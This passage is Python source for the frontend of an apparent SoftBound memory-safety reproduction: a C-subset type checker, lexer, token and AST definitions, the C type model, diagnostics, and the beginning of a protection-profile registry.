            raise TypeError_(f"unhandled statement {type(stmt).__name__}", stmt.line, stmt.col)

    def _check_cond(self, node, attr, scope):
        expr = getattr(node, attr)
        self._check_expr(expr, scope)
        expr = self._decay(expr, scope)
        if not (expr.ctype.is_scalar):
            raise TypeError_("condition must be scalar", expr.line, expr.col)
        setattr(node, attr, expr)

    # -- expressions ------------------------------------------------------

    def _decay(self, expr, scope):
        """Apply array-to-pointer and function-to-pointer decay."""
        if expr.ctype is None:
            self._check_expr(expr, scope)
        if expr.ctype.is_array:
            conv = ast.ImplicitConvert(
                line=expr.line, col=expr.col, kind="decay", operand=expr
            )
            conv.ctype = ct.PointerType(expr.ctype.element)
            return conv
        if expr.ctype.is_function:
            conv = ast.ImplicitConvert(
                line=expr.line, col=expr.col, kind="fndecay", operand=expr
            )
            conv.ctype = ct.PointerType(expr.ctype)
            return conv
        return expr

    def _check_expr(self, expr, scope):
        method = getattr(self, "_check_" + type(expr).__name__, None)
        if method is None:
            raise TypeError_(f"unhandled expression {type(expr).__name__}", expr.line, expr.col)
        ctype = method(expr, scope)
        expr.ctype = ctype
        return ctype

    def _check_IntLiteral(self, expr, scope):
        return ct.LONG if expr.value > ct.INT.max_value or expr.value < ct.INT.min_value else ct.INT

    def _check_FloatLiteral(self, expr, scope):
        return ct.DOUBLE

    def _check_CharLiteral(self, expr, scope):
        return ct.INT

    def _check_StringLiteral(self, expr, scope):
        return ct.ArrayType(ct.CHAR, len(expr.value) + 1)

    def _check_Identifier(self, expr, scope):
        if expr.binding == "enum_const":
            return ct.INT
        entry = scope.lookup(expr.name)
        if entry is None:
            raise TypeError_(f"undeclared identifier {expr.name!r}", expr.line, expr.col)
        ctype, kind = entry
        expr.binding = kind
        return ctype

    def _check_ImplicitConvert(self, expr, scope):
        self._check_expr(expr.operand, scope)
        return expr.ctype

    def _check_Unary(self, expr, scope):
        op = expr.op
        if op == "&":
            operand_type = self._check_expr(expr.operand, scope)
            if not self._is_lvalue(expr.operand):
                raise TypeError_("cannot take address of rvalue", expr.line, expr.col)
            if operand_type.is_array:
                # &array: treat as pointer to the whole array's elements
                # (base/bound span the array, matching the paper's example).
                return ct.PointerType(operand_type.element)
            return ct.PointerType(operand_type)
        if op == "*":
            self._check_expr(expr.operand, scope)
            operand = self._decay(expr.operand, scope)
            expr.operand = operand
            if not operand.ctype.is_pointer:
                raise TypeError_(f"cannot dereference {operand.ctype}", expr.line, expr.col)
            pointee = operand.ctype.pointee
            if pointee.is_void:
                raise TypeError_("cannot dereference void*", expr.line, expr.col)
            if pointee.is_function:
                return pointee  # *fp is the function itself
            return pointee
        operand_type = self._check_expr(expr.operand, scope)
        if op in ("++pre", "--pre", "post++", "post--"):
            if not self._is_lvalue(expr.operand):
                raise TypeError_(f"{op} requires an lvalue", expr.line, expr.col)
            if not (operand_type.is_arith or operand_type.is_pointer):
                raise TypeError_(f"{op} on {operand_type}", expr.line, expr.col)
            return operand_type
        operand = self._decay(expr.operand, scope)
        expr.operand = operand
        operand_type = operand.ctype
        if op == "!":
            if not operand_type.is_scalar:
                raise TypeError_("! requires scalar", expr.line, expr.col)
            return ct.INT
        if op == "~":
            if not operand_type.is_integer:
                raise TypeError_("~ requires integer", expr.line, expr.col)
            return self._promote(operand_type)
        if op == "-":
            if not operand_type.is_arith:
                raise TypeError_("unary - requires arithmetic type", expr.line, expr.col)
            return self._promote(operand_type) if operand_type.is_integer else operand_type
        raise TypeError_(f"unhandled unary {op}", expr.line, expr.col)

    def _promote(self, int_type):
        if int_type.is_integer and int_type.width < 4:
            return ct.INT
        return int_type

    def _check_Binary(self, expr, scope):
        op = expr.op
        if op == ",":
            self._check_expr(expr.left, scope)
            expr.left = self._decay(expr.left, scope)
            self._check_expr(expr.right, scope)
            expr.right = self._decay(expr.right, scope)
            return expr.right.ctype
        self._check_expr(expr.left, scope)
        self._check_expr(expr.right, scope)
        expr.left = self._decay(expr.left, scope)
        expr.right = self._decay(expr.right, scope)
        lt, rt = expr.left.ctype, expr.right.ctype
        if op in ("&&", "||"):
            if not (lt.is_scalar and rt.is_scalar):
                raise TypeError_(f"{op} requires scalar operands", expr.line, expr.col)
            return ct.INT
        if op in ("==", "!=", "<", "<=", ">", ">="):
            if lt.is_arith and rt.is_arith:
                return ct.INT
            if lt.is_pointer or rt.is_pointer:
                return ct.INT
            raise TypeError_(f"cannot compare {lt} and {rt}", expr.line, expr.col)
        if op in ("+", "-"):
            if lt.is_pointer and rt.is_integer:
                return lt
            if op == "+" and lt.is_integer and rt.is_pointer:
                return rt
            if op == "-" and lt.is_pointer and rt.is_pointer:
                return ct.LONG
            if lt.is_arith and rt.is_arith:
                return ct.common_arith_type(lt, rt)
            raise TypeError_(f"invalid operands to {op}: {lt}, {rt}", expr.line, expr.col)
        if op in ("*", "/"):
            if lt.is_arith and rt.is_arith:
                return ct.common_arith_type(lt, rt)
            raise TypeError_(f"invalid operands to {op}", expr.line, expr.col)
        if op in ("%", "<<", ">>", "&", "|", "^"):
            if lt.is_integer and rt.is_integer:
                return ct.common_arith_type(lt, rt)
            raise TypeError_(f"{op} requires integer operands", expr.line, expr.col)
        raise TypeError_(f"unhandled binary {op}", expr.line, expr.col)

    def _check_Assign(self, expr, scope):
        target_type = self._check_expr(expr.target, scope)
        if not self._is_lvalue(expr.target):
            raise TypeError_("assignment target is not an lvalue", expr.line, expr.col)
        if target_type.is_array:
            raise TypeError_("cannot assign to array", expr.line, expr.col)
        self._check_expr(expr.value, scope)
        expr.value = self._decay(expr.value, scope)
        vtype = expr.value.ctype
        if expr.op == "=":
            if target_type.is_struct:
                if vtype is not target_type:
                    raise TypeError_("struct assignment type mismatch", expr.line, expr.col)
                return target_type
            if not ct.types_compatible(target_type, vtype):
                raise TypeError_(f"cannot assign {vtype} to {target_type}", expr.line, expr.col)
            return target_type
        base_op = expr.op[:-1]
        if target_type.is_pointer and base_op in ("+", "-") and vtype.is_integer:
            return target_type
        if not (target_type.is_arith and vtype.is_arith):
            raise TypeError_(f"invalid compound assignment {expr.op}", expr.line, expr.col)
        return target_type

    def _check_Conditional(self, expr, scope):
        self._check_expr(expr.cond, scope)
        expr.cond = self._decay(expr.cond, scope)
        self._check_expr(expr.then, scope)
        expr.then = self._decay(expr.then, scope)
        self._check_expr(expr.otherwise, scope)
        expr.otherwise = self._decay(expr.otherwise, scope)
        tt, ot = expr.then.ctype, expr.otherwise.ctype
        if tt.is_arith and ot.is_arith:
            return ct.common_arith_type(tt, ot)
        if tt.is_pointer:
            return tt
        if ot.is_pointer:
            return ot
        if tt is ot:
            return tt
        raise TypeError_(f"incompatible conditional arms {tt}, {ot}", expr.line, expr.col)

    def _check_Cast(self, expr, scope):
        self._check_expr(expr.operand, scope)
        expr.operand = self._decay(expr.operand, scope)
        target = expr.target_type
        source = expr.operand.ctype
        if target.is_void:
            return target
        if not (target.is_scalar and (source.is_scalar or source.is_struct)):
            if not (target.is_scalar and source.is_scalar):
                raise TypeError_(f"invalid cast {source} -> {target}", expr.line, expr.col)
        return target

    def _check_SizeofType(self, expr, scope):
        return ct.ULONG

    def _check_SizeofExpr(self, expr, scope):
        self._check_expr(expr.operand, scope)
        return ct.ULONG

    def _check_Call(self, expr, scope):
        func = expr.func
        ftype = None
        if isinstance(func, ast.Identifier):
            entry = scope.lookup(func.name)
            if entry is None:
                # Implicit declaration (common in legacy C, and
                # explicitly tolerated by the paper's call-site-driven
                # transformation): int f(...).
                ftype = ct.FunctionType(ct.INT, (), varargs=True)
                func.binding = "function"
                func.ctype = ftype
            else:
                ctype, kind = entry
                func.binding = kind
                func.ctype = ctype
                if ctype.is_function:
                    ftype = ctype
                elif ctype.is_pointer and ctype.pointee.is_function:
                    ftype = ctype.pointee
                else:
                    raise TypeError_(f"{func.name!r} is not a function", expr.line, expr.col)
        else:
            self._check_expr(func, scope)
            expr.func = func = self._decay(func, scope)
            ctype = func.ctype
            if ctype.is_pointer and ctype.pointee.is_function:
                ftype = ctype.pointee
            elif ctype.is_function:
                ftype = ctype
            else:
                raise TypeError_("called object is not a function", expr.line, expr.col)
        # Check arguments.
        checked = []
        for arg in expr.args:
            self._check_expr(arg, scope)
            checked.append(self._decay(arg, scope))
        expr.args = checked
        nparams = len(ftype.params)
        if len(expr.args) < nparams:
            raise TypeError_(
                f"too few arguments ({len(expr.args)} for {nparams})", expr.line, expr.col
            )
        if len(expr.args) > nparams and not ftype.varargs:
            raise TypeError_(
                f"too many arguments ({len(expr.args)} for {nparams})", expr.line, expr.col
            )
        for arg, ptype in zip(expr.args, ftype.params):
            if not ct.types_compatible(ptype, arg.ctype):
                raise TypeError_(
                    f"argument type {arg.ctype} incompatible with {ptype}", arg.line, arg.col
                )
        return ftype.return_type

    def _check_Index(self, expr, scope):
        self._check_expr(expr.base, scope)
        expr.base = self._decay(expr.base, scope)
        self._check_expr(expr.index, scope)
        expr.index = self._decay(expr.index, scope)
        base_t, index_t = expr.base.ctype, expr.index.ctype
        if base_t.is_integer and index_t.is_pointer:  # i[p] form
            expr.base, expr.index = expr.index, expr.base
            base_t, index_t = index_t, base_t
        if not base_t.is_pointer:
            raise TypeError_(f"cannot index {base_t}", expr.line, expr.col)
        if not index_t.is_integer:
            raise TypeError_("array index must be integer", expr.line, expr.col)
        return base_t.pointee

    def _check_Member(self, expr, scope):
        base_t = self._check_expr(expr.base, scope)
        if expr.arrow:
            expr.base = self._decay(expr.base, scope)
            base_t = expr.base.ctype
            if not (base_t.is_pointer and base_t.pointee.is_struct):
                raise TypeError_(f"-> on non-struct-pointer {base_t}", expr.line, expr.col)
            stype = base_t.pointee
        else:
            if not base_t.is_struct:
                raise TypeError_(f". on non-struct {base_t}", expr.line, expr.col)
            stype = base_t
        if not stype.complete:
            raise TypeError_(f"incomplete struct {stype}", expr.line, expr.col)
        fld = stype.field(expr.name)
        if fld is None:
            raise TypeError_(f"no member {expr.name!r} in {stype}", expr.line, expr.col)
        expr.field_offset = fld.offset
        expr.field_size = fld.type.size
        return fld.type

    # -- helpers ----------------------------------------------------------

    def _is_lvalue(self, expr):
        if isinstance(expr, ast.Identifier):
            return expr.binding in ("local", "param", "global")
        if isinstance(expr, ast.Unary) and expr.op == "*":
            return True
        if isinstance(expr, (ast.Index, ast.Member)):
            return True
        if isinstance(expr, ast.StringLiteral):
            return True
        return False


def check(unit):
    """Type-check a parsed translation unit, returning a TypedProgram."""
    return TypeChecker(unit).check()


def parse_and_check(source):
    """Convenience: parse then check."""
    from .parser import Parser

    parser = Parser(source)
    parser.typedefs.update(BUILTIN_TYPEDEFS)
    unit = parser.parse()
    return check(unit)
