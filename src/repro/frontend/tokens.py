"""Token definitions for the C-subset lexer.

The lexer produces a flat stream of :class:`Token` objects.  Token kinds
are plain strings (one of the ``KIND_*`` constants below) rather than an
enum so that parser match code stays terse and readable.
"""

from dataclasses import dataclass

KIND_IDENT = "ident"
KIND_KEYWORD = "keyword"
KIND_INT = "int_const"
KIND_FLOAT = "float_const"
KIND_CHAR = "char_const"
KIND_STRING = "string"
KIND_PUNCT = "punct"
KIND_EOF = "eof"

KEYWORDS = frozenset(
    [
        "void",
        "char",
        "short",
        "int",
        "long",
        "float",
        "double",
        "signed",
        "unsigned",
        "struct",
        "union",
        "typedef",
        "if",
        "else",
        "while",
        "for",
        "do",
        "return",
        "break",
        "continue",
        "sizeof",
        "static",
        "extern",
        "const",
        "goto",
        "switch",
        "case",
        "default",
        "enum",
        "NULL",
    ]
)

# Punctuators, longest first so the lexer can greedily match.
PUNCTUATORS = [
    "<<=",
    ">>=",
    "...",
    "->",
    "++",
    "--",
    "<<",
    ">>",
    "<=",
    ">=",
    "==",
    "!=",
    "&&",
    "||",
    "+=",
    "-=",
    "*=",
    "/=",
    "%=",
    "&=",
    "|=",
    "^=",
    "+",
    "-",
    "*",
    "/",
    "%",
    "=",
    "<",
    ">",
    "!",
    "&",
    "|",
    "^",
    "~",
    "?",
    ":",
    ";",
    ",",
    ".",
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
]


@dataclass(frozen=True)
class Token:
    """A single lexical token.

    ``value`` holds the decoded payload: an ``int`` for integer and
    character constants, a ``float`` for floating constants, a ``bytes``
    for string literals (NUL terminator *not* included), and the raw text
    for identifiers, keywords and punctuators.
    """

    kind: str
    value: object
    line: int
    col: int

    @property
    def text(self):
        return str(self.value)

    def __repr__(self):
        return f"Token({self.kind}, {self.value!r}, {self.line}:{self.col})"
