"""The C type system used by the frontend and lowering.

Models the LP64 data model the paper evaluates on (64-bit x86):
``char`` = 1 byte, ``short`` = 2, ``int`` = 4, ``long`` = 8, pointers = 8,
``float``/``double`` = 8 (we give ``float`` double precision; no workload
depends on single-precision rounding).  Struct layout follows the usual
natural-alignment rules so field offsets — which SoftBound's sub-object
bound shrinking depends on — are realistic.
"""

from dataclasses import dataclass, field

POINTER_SIZE = 8


class CType:
    """Base class.  All types expose ``size``, ``align`` and predicates."""

    size = 0
    align = 1

    @property
    def is_integer(self):
        return isinstance(self, IntType)

    @property
    def is_float(self):
        return isinstance(self, FloatType)

    @property
    def is_arith(self):
        return self.is_integer or self.is_float

    @property
    def is_pointer(self):
        return isinstance(self, PointerType)

    @property
    def is_array(self):
        return isinstance(self, ArrayType)

    @property
    def is_struct(self):
        return isinstance(self, StructType)

    @property
    def is_function(self):
        return isinstance(self, FunctionType)

    @property
    def is_void(self):
        return isinstance(self, VoidType)

    @property
    def is_scalar(self):
        return self.is_arith or self.is_pointer

    def contains_pointer(self):
        """True when a value of this type embeds at least one pointer.

        SoftBound's memcpy/free heuristics (paper Section 5.2) use this
        static-type query to decide whether metadata must be copied or
        cleared.
        """
        if self.is_pointer:
            return True
        if self.is_array:
            return self.element.contains_pointer()
        if self.is_struct:
            return any(f.type.contains_pointer() for f in self.fields)
        return False


@dataclass(frozen=True)
class VoidType(CType):
    size = 0
    align = 1

    def __str__(self):
        return "void"


@dataclass(frozen=True)
class IntType(CType):
    """Integer type of a given byte width and signedness."""

    width: int  # bytes
    signed: bool = True
    name: str = "int"

    @property
    def size(self):
        return self.width

    @property
    def align(self):
        return self.width

    @property
    def min_value(self):
        return -(1 << (self.width * 8 - 1)) if self.signed else 0

    @property
    def max_value(self):
        bits = self.width * 8
        return (1 << (bits - 1)) - 1 if self.signed else (1 << bits) - 1

    def wrap(self, value):
        """Reduce a Python int into this type's representable range."""
        bits = self.width * 8
        value &= (1 << bits) - 1
        if self.signed and value >= 1 << (bits - 1):
            value -= 1 << bits
        return value

    def __str__(self):
        return self.name if self.signed else f"unsigned {self.name}"


@dataclass(frozen=True)
class FloatType(CType):
    name: str = "double"
    size = 8
    align = 8

    def __str__(self):
        return self.name


@dataclass(frozen=True)
class PointerType(CType):
    pointee: CType
    size = POINTER_SIZE
    align = POINTER_SIZE

    def __str__(self):
        return f"{self.pointee}*"


@dataclass(frozen=True)
class ArrayType(CType):
    element: CType
    length: int

    @property
    def size(self):
        return self.element.size * self.length

    @property
    def align(self):
        return self.element.align

    def __str__(self):
        return f"{self.element}[{self.length}]"


@dataclass(frozen=True)
class Field:
    name: str
    type: CType
    offset: int


@dataclass
class StructType(CType):
    """A (possibly named) struct.  Mutable: named structs may be declared
    forward and completed later; layout is computed by :meth:`seal`."""

    tag: str = ""
    fields: tuple = ()
    _size: int = 0
    _align: int = 1
    complete: bool = False

    @property
    def size(self):
        return self._size

    @property
    def align(self):
        return self._align

    def seal(self, members):
        """Assign field offsets with natural alignment and compute size.

        ``members`` is a sequence of ``(name, CType)`` pairs.
        """
        offset = 0
        align = 1
        fields = []
        for name, ctype in members:
            offset = align_up(offset, ctype.align)
            fields.append(Field(name, ctype, offset))
            offset += ctype.size
            align = max(align, ctype.align)
        self.fields = tuple(fields)
        self._align = align
        self._size = align_up(offset, align) if offset else 0
        self.complete = True
        return self

    def field(self, name):
        for f in self.fields:
            if f.name == name:
                return f
        return None

    def __str__(self):
        return f"struct {self.tag}" if self.tag else "struct <anon>"

    def __hash__(self):
        return id(self)

    def __eq__(self, other):
        return self is other


@dataclass(frozen=True)
class FunctionType(CType):
    return_type: CType
    params: tuple  # tuple of CType
    varargs: bool = False
    size = 0
    align = 1

    def __str__(self):
        parts = [str(p) for p in self.params]
        if self.varargs:
            parts.append("...")
        return f"{self.return_type}({', '.join(parts)})"


def align_up(value, alignment):
    """Round ``value`` up to the next multiple of ``alignment``."""
    if alignment <= 1:
        return value
    return (value + alignment - 1) // alignment * alignment


# Canonical instances -------------------------------------------------

VOID = VoidType()
CHAR = IntType(1, True, "char")
UCHAR = IntType(1, False, "char")
SHORT = IntType(2, True, "short")
USHORT = IntType(2, False, "short")
INT = IntType(4, True, "int")
UINT = IntType(4, False, "int")
LONG = IntType(8, True, "long")
ULONG = IntType(8, False, "long")
DOUBLE = FloatType("double")
FLOAT = FloatType("float")
BOOL = INT  # C89-style: comparisons yield int

VOID_PTR = PointerType(VOID)
CHAR_PTR = PointerType(CHAR)


def pointer_to(ctype):
    return PointerType(ctype)


def common_arith_type(a, b):
    """Usual arithmetic conversions, simplified to our type lattice."""
    if a.is_float or b.is_float:
        return DOUBLE
    width = max(a.width, b.width, 4)
    signed = a.signed and b.signed
    if width <= 4:
        return INT if signed else UINT
    return LONG if signed else ULONG


def types_compatible(a, b):
    """Loose compatibility used for assignments/comparisons.

    C's actual rules are more intricate; the subset accepts any
    pointer/pointer and pointer/integer mixing (SoftBound's whole point
    is tolerating arbitrary casts), while still rejecting obviously
    broken cases such as assigning a struct to an int.
    """
    if a is b or a == b:
        return True
    if a.is_arith and b.is_arith:
        return True
    if a.is_pointer and b.is_pointer:
        return True
    if a.is_pointer and b.is_integer or a.is_integer and b.is_pointer:
        return True
    if a.is_struct and b.is_struct:
        return a is b
    return False
