"""Frontend diagnostics.

All frontend failures raise :class:`FrontendError` subclasses carrying a
source location, so callers (tests, the driver, examples) can report
"file:line:col: message" style diagnostics.
"""


class FrontendError(Exception):
    """Base class for lexing, parsing and type-checking errors."""

    def __init__(self, message, line=0, col=0):
        super().__init__(f"{line}:{col}: {message}" if line else message)
        self.message = message
        self.line = line
        self.col = col


class LexError(FrontendError):
    """Raised on malformed input characters, literals or comments."""


class ParseError(FrontendError):
    """Raised when the token stream does not match the grammar."""


class TypeError_(FrontendError):
    """Raised by the type checker (named to avoid shadowing builtins)."""
