"""Hand-written lexer for the C subset.

Supports decimal/hex/octal integer constants (with ``u``/``l`` suffixes),
floating constants, character constants with the usual escapes, string
literals (adjacent literals are concatenated by the parser), ``//`` and
``/* */`` comments, and the full punctuator set in
:mod:`repro.frontend.tokens`.
"""

from .errors import LexError
from .tokens import (
    KEYWORDS,
    KIND_CHAR,
    KIND_EOF,
    KIND_FLOAT,
    KIND_IDENT,
    KIND_INT,
    KIND_KEYWORD,
    KIND_PUNCT,
    KIND_STRING,
    PUNCTUATORS,
    Token,
)

_ESCAPES = {
    "n": 10,
    "t": 9,
    "r": 13,
    "0": 0,
    "\\": 92,
    "'": 39,
    '"': 34,
    "a": 7,
    "b": 8,
    "f": 12,
    "v": 11,
}


class Lexer:
    """Converts C source text into a list of tokens ending with EOF."""

    def __init__(self, source):
        self.src = source
        self.pos = 0
        self.line = 1
        self.col = 1

    def tokenize(self):
        tokens = []
        while True:
            tok = self._next_token()
            tokens.append(tok)
            if tok.kind == KIND_EOF:
                return tokens

    # -- internals ---------------------------------------------------

    def _peek(self, offset=0):
        i = self.pos + offset
        return self.src[i] if i < len(self.src) else ""

    def _advance(self, n=1):
        for _ in range(n):
            if self.pos < len(self.src):
                if self.src[self.pos] == "\n":
                    self.line += 1
                    self.col = 1
                else:
                    self.col += 1
                self.pos += 1

    def _skip_ws_and_comments(self):
        while self.pos < len(self.src):
            ch = self._peek()
            if ch in " \t\r\n":
                self._advance()
            elif ch == "/" and self._peek(1) == "/":
                while self.pos < len(self.src) and self._peek() != "\n":
                    self._advance()
            elif ch == "/" and self._peek(1) == "*":
                start_line, start_col = self.line, self.col
                self._advance(2)
                while self.pos < len(self.src):
                    if self._peek() == "*" and self._peek(1) == "/":
                        self._advance(2)
                        break
                    self._advance()
                else:
                    raise LexError("unterminated comment", start_line, start_col)
            elif ch == "#":
                # Preprocessor lines (e.g. #include) are skipped: the
                # subset has no preprocessor, but workloads keep the
                # directives for documentation.
                while self.pos < len(self.src) and self._peek() != "\n":
                    self._advance()
            else:
                return

    def _next_token(self):
        self._skip_ws_and_comments()
        line, col = self.line, self.col
        if self.pos >= len(self.src):
            return Token(KIND_EOF, "", line, col)
        ch = self._peek()
        if ch.isalpha() or ch == "_":
            return self._lex_ident(line, col)
        if ch.isdigit() or (ch == "." and self._peek(1).isdigit()):
            return self._lex_number(line, col)
        if ch == "'":
            return self._lex_char(line, col)
        if ch == '"':
            return self._lex_string(line, col)
        for punct in PUNCTUATORS:
            if self.src.startswith(punct, self.pos):
                self._advance(len(punct))
                return Token(KIND_PUNCT, punct, line, col)
        raise LexError(f"unexpected character {ch!r}", line, col)

    def _lex_ident(self, line, col):
        start = self.pos
        while self.pos < len(self.src) and (self._peek().isalnum() or self._peek() == "_"):
            self._advance()
        text = self.src[start : self.pos]
        kind = KIND_KEYWORD if text in KEYWORDS else KIND_IDENT
        return Token(kind, text, line, col)

    def _lex_number(self, line, col):
        start = self.pos
        is_float = False
        if self._peek() == "0" and self._peek(1) in "xX":
            self._advance(2)
            while self._peek() and self._peek() in "0123456789abcdefABCDEF":
                self._advance()
            value = int(self.src[start : self.pos], 16)
        else:
            while self._peek().isdigit():
                self._advance()
            if self._peek() == "." and self._peek(1) != ".":
                is_float = True
                self._advance()
                while self._peek().isdigit():
                    self._advance()
            if self._peek() in "eE" and (
                self._peek(1).isdigit()
                or (self._peek(1) in "+-" and self._peek(2).isdigit())
            ):
                is_float = True
                self._advance()
                if self._peek() in "+-":
                    self._advance()
                while self._peek().isdigit():
                    self._advance()
            text = self.src[start : self.pos]
            value = float(text) if is_float else int(text, 0 if text.startswith("0") else 10)
        # Suffixes: u/U/l/L in any combination; f/F forces float.
        # (guard: "" is a substring of any string, so test non-empty first)
        while self._peek() and self._peek() in "uUlLfF":
            if self._peek() in "fF" and is_float:
                pass
            self._advance()
        if is_float:
            return Token(KIND_FLOAT, float(value), line, col)
        return Token(KIND_INT, int(value), line, col)

    def _read_escape(self, line, col):
        self._advance()  # backslash
        ch = self._peek()
        if ch == "x":
            self._advance()
            digits = ""
            while self._peek() and self._peek() in "0123456789abcdefABCDEF":
                digits += self._peek()
                self._advance()
            if not digits:
                raise LexError("bad hex escape", line, col)
            return int(digits, 16) & 0xFF
        if ch in _ESCAPES:
            self._advance()
            return _ESCAPES[ch]
        raise LexError(f"unknown escape \\{ch}", line, col)

    def _lex_char(self, line, col):
        self._advance()  # opening quote
        if self._peek() == "\\":
            value = self._read_escape(line, col)
        else:
            if not self._peek():
                raise LexError("unterminated character constant", line, col)
            value = ord(self._peek())
            self._advance()
        if self._peek() != "'":
            raise LexError("unterminated character constant", line, col)
        self._advance()
        return Token(KIND_CHAR, value, line, col)

    def _lex_string(self, line, col):
        self._advance()  # opening quote
        data = bytearray()
        while True:
            ch = self._peek()
            if not ch or ch == "\n":
                raise LexError("unterminated string literal", line, col)
            if ch == '"':
                self._advance()
                return Token(KIND_STRING, bytes(data), line, col)
            if ch == "\\":
                data.append(self._read_escape(line, col))
            else:
                data.append(ord(ch))
                self._advance()


def tokenize(source):
    """Convenience wrapper: lex ``source`` and return the token list."""
    return Lexer(source).tokenize()
