"""AST node definitions.

Nodes are plain dataclasses.  The parser produces an untyped AST; the
type checker annotates expression nodes in place by filling their
``ctype`` attribute (and inserting implicit conversions), producing the
typed AST that lowering consumes.
"""

from dataclasses import dataclass, field
from typing import Optional


@dataclass
class Node:
    line: int = 0
    col: int = 0


# -- expressions -------------------------------------------------------


@dataclass
class Expr(Node):
    ctype: object = None  # filled by the type checker


@dataclass
class IntLiteral(Expr):
    value: int = 0


@dataclass
class FloatLiteral(Expr):
    value: float = 0.0


@dataclass
class CharLiteral(Expr):
    value: int = 0


@dataclass
class StringLiteral(Expr):
    value: bytes = b""


@dataclass
class Identifier(Expr):
    name: str = ""
    # Filled by the type checker: one of "local", "param", "global",
    # "function", "enum_const".
    binding: str = ""
    enum_value: int = 0


@dataclass
class Unary(Expr):
    op: str = ""  # -  !  ~  *  &  ++pre  --pre  post++  post--
    operand: Optional[Expr] = None


@dataclass
class Binary(Expr):
    op: str = ""  # + - * / % << >> < <= > >= == != & | ^ && ||
    left: Optional[Expr] = None
    right: Optional[Expr] = None


@dataclass
class Assign(Expr):
    op: str = "="  # = += -= *= /= %= &= |= ^= <<= >>=
    target: Optional[Expr] = None
    value: Optional[Expr] = None


@dataclass
class Conditional(Expr):
    cond: Optional[Expr] = None
    then: Optional[Expr] = None
    otherwise: Optional[Expr] = None


@dataclass
class Cast(Expr):
    target_type: object = None  # CType after checking; TypeSpec before
    operand: Optional[Expr] = None


@dataclass
class SizeofType(Expr):
    target_type: object = None


@dataclass
class SizeofExpr(Expr):
    operand: Optional[Expr] = None


@dataclass
class Call(Expr):
    func: Optional[Expr] = None
    args: list = field(default_factory=list)


@dataclass
class Index(Expr):
    base: Optional[Expr] = None
    index: Optional[Expr] = None


@dataclass
class Member(Expr):
    base: Optional[Expr] = None
    name: str = ""
    arrow: bool = False  # True for ->, False for .
    # Filled by the checker:
    field_offset: int = 0
    field_size: int = 0


@dataclass
class ImplicitConvert(Expr):
    """Inserted by the type checker for arithmetic conversions and
    array/function decay."""

    kind: str = ""  # "arith", "decay", "ptr", "bool"
    operand: Optional[Expr] = None


# -- statements --------------------------------------------------------


@dataclass
class Stmt(Node):
    pass


@dataclass
class ExprStmt(Stmt):
    expr: Optional[Expr] = None


@dataclass
class Block(Stmt):
    items: list = field(default_factory=list)  # Decl or Stmt


@dataclass
class If(Stmt):
    cond: Optional[Expr] = None
    then: Optional[Stmt] = None
    otherwise: Optional[Stmt] = None


@dataclass
class While(Stmt):
    cond: Optional[Expr] = None
    body: Optional[Stmt] = None


@dataclass
class DoWhile(Stmt):
    body: Optional[Stmt] = None
    cond: Optional[Expr] = None


@dataclass
class For(Stmt):
    init: object = None  # Decl, Expr or None
    cond: Optional[Expr] = None
    step: Optional[Expr] = None
    body: Optional[Stmt] = None


@dataclass
class Return(Stmt):
    value: Optional[Expr] = None


@dataclass
class Break(Stmt):
    pass


@dataclass
class Continue(Stmt):
    pass


@dataclass
class Switch(Stmt):
    cond: Optional[Expr] = None
    body: Optional[Stmt] = None


@dataclass
class Case(Stmt):
    value: Optional[Expr] = None  # None for default
    stmts: list = field(default_factory=list)


@dataclass
class Goto(Stmt):
    label: str = ""


@dataclass
class Label(Stmt):
    name: str = ""
    stmt: Optional[Stmt] = None


# -- declarations ------------------------------------------------------


@dataclass
class Decl(Node):
    """A single variable declaration (one declarator)."""

    name: str = ""
    type: object = None  # CType after parsing (parser resolves types)
    init: object = None  # Expr, InitList or None
    storage: str = ""  # "", "static", "extern", "typedef"


@dataclass
class InitList(Node):
    """Brace initializer ``{a, b, ...}`` for arrays/structs."""

    items: list = field(default_factory=list)
    ctype: object = None


@dataclass
class ParamDecl(Node):
    name: str = ""
    type: object = None


@dataclass
class FunctionDef(Node):
    name: str = ""
    return_type: object = None
    params: list = field(default_factory=list)  # ParamDecl
    varargs: bool = False
    body: Optional[Block] = None
    storage: str = ""


@dataclass
class TranslationUnit(Node):
    """Top level: ordered declarations and function definitions."""

    decls: list = field(default_factory=list)
