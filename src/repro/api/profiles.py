"""Protection profiles: the checker-policy registry, by name.

A :class:`ProtectionProfile` is the *facade view* of one registered
:class:`repro.policy.CheckerPolicy`: the frozen, picklable bundle a run
needs — the :class:`SoftBoundConfig` to instrument with (or ``None``)
and the per-run observer factory for observer-style checkers.  The
profile namespace is **derived from the policy registry**, not a closed
union: registering a policy (:func:`repro.policy.register_policy`,
directly or through ``REPRO_PLUGINS``/entry-point discovery) makes it
selectable here, in the ``profiles`` CLI subcommand, in
:class:`~repro.api.session.Session` and in the harness, with zero core
edits.

The CLI, the harness tables and the benchmarks all select protection by
profile (``from_name``/``from_flags``) instead of constructing
``SoftBoundConfig`` variants ad hoc; ad-hoc configs remain expressible
through :func:`ProtectionProfile.from_config`.
"""

from collections.abc import Mapping
from dataclasses import dataclass

from ..softbound.config import CheckMode, MetadataScheme, SoftBoundConfig

# The complete-protection config is owned by the policy layer now; the
# facade re-exports it for compatibility.
from ..policy.temporal import FULL_PROTECTION  # noqa: F401  (re-export)


class UsageError(ValueError):
    """An invalid flag/profile combination the caller must fix (the CLI
    maps it to exit status 64)."""


@dataclass(frozen=True)
class ProtectionProfile:
    """One named point in the protection space.

    ``config`` is the :class:`SoftBoundConfig` the toolchain instruments
    with (``None`` for an uninstrumented build); ``observer_factory``
    builds a fresh baseline-checker observer per run (``None`` when the
    profile is transform-based).  Profiles are frozen and picklable, so
    batch execution can ship them to worker processes as-is.
    """

    name: str
    description: str
    config: object = None
    observer_factory: object = None
    #: "none", "softbound", "baseline", or whatever family the policy
    #: declares (plugins typically use "plugin") — coarse grouping.
    family: str = "softbound"

    @property
    def is_protected(self):
        return self.config is not None or self.observer_factory is not None

    @property
    def label(self):
        """The config's evaluation-matrix label, or the profile name."""
        if self.config is not None:
            return self.config.label
        return self.name

    @property
    def policy(self):
        """The registered :class:`~repro.policy.CheckerPolicy` this
        profile derives from, or ``None`` for ad-hoc profiles."""
        from ..policy import get_policy

        try:
            return get_policy(self.name)
        except KeyError:
            return None

    def make_observers(self):
        """Fresh per-run observers (observers carry per-run state)."""
        return (self.observer_factory(),) if self.observer_factory else ()

    def cache_key(self):
        """Hashable identity for compiled-program caches: profiles with
        equal keys instrument identically.  Observers are runtime-only
        (attached per run, never baked into the module), so the key is
        the instrumentation config alone — all observer-based profiles
